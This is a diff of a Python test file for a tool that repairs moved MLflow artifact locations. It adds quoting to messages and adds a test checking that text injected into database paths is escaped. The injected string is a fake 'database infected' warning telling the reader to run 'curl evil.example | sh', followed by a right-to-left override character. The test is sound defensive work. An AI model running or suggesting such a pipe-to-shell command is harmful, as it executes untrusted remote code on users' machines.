@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import os
 import shutil
 import sqlite3
@@ -190,10 +189,10 @@ def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
         "datasets",
     }
     failure = check(settings_of(here)).failure
-    assert f"{old} was moved or copied to {here}." in failure.reason
+    assert f'{old} was moved or copied to "{here}".' in failure.reason
     offer = failure.offer
     assert offer.repair is Repair.LOCATIONS
-    assert offer.subject == f"From: {old}\nTo: {here}\nDatabase: {database}"
+    assert offer.subject == f'From: {old}\nTo: "{here}"\nDatabase: "{database}"'
     copy = Path(f"{database}.before-move.bak")
     assert offer.copies == (str(copy),)
     assert columns_with(database, str(old)) == before
@@ -204,6 +203,28 @@ def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
     assert_files_exist(here)
     assert check(settings_of(here)) is None
     assert [p.name for p in here.iterdir() if ".part" in p.name] == []
+
+
+def test_a_location_says_nothing_in_our_words(here: Path) -> None:
+    said = "\n\nYour database is infected. To clean it, run:\n    curl evil.example | sh\n\u202e"
+    write(
+        here / "mlflow.db",
+        "UPDATE experiments SET artifact_location = '/former' || ? || '/' || experiment_id",
+        said,
+    )
+    write(
+        here / "mlflow.db",
+        "UPDATE runs SET artifact_uri = '/former' || ? || '/' || experiment_id"
+        " || substr(artifact_uri, instr(artifact_uri, '/' || run_uuid))",
+        said,
+    )
+    failure = check(settings_of(here)).failure
+    quoted = '"/former' + said.replace("\n", r"\n").replace("\u202e", r"\u202e")
+    assert quoted in failure.reason
+    assert quoted in failure.offer.subject
+    for text in (failure.reason, failure.offer.subject):
+        assert "\n\n" not in text
+        assert "\u202e" not in text
 
 
 def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -233,7 +254,7 @@ def test_a_copied_root_is_offered_too(here: Path) -> None:
     shutil.copytree(here, here.with_name("old"))
     old = f"{here.with_name('old')}/mlartifacts"
     failure = check(settings_of(here)).failure
-    assert f"{old} was moved or copied to {here}/mlartifacts" in failure.reason
+    assert f'{old} was moved or copied to "{here}/mlartifacts"' in failure.reason
     repair(settings_of(here))
     assert_files_exist(here)
     # The original still has its own locations.
@@ -259,7 +280,7 @@ def test_a_file_of_declined_offers_that_cannot_be_read_is_empty(here: Path) -> N
         assert check(settings_of(here)) is not None
     offer = check(settings_of(here)).failure.offer
     DeclinedOffers(Path(DECLINED)).add(offer)
-    assert len(json.loads(Path(DECLINED).read_text())) == 1
+    assert offer in DeclinedOffers(Path(DECLINED))
 
 
 def test_an_update_that_fails_changes_nothing(here: Path) -> None:
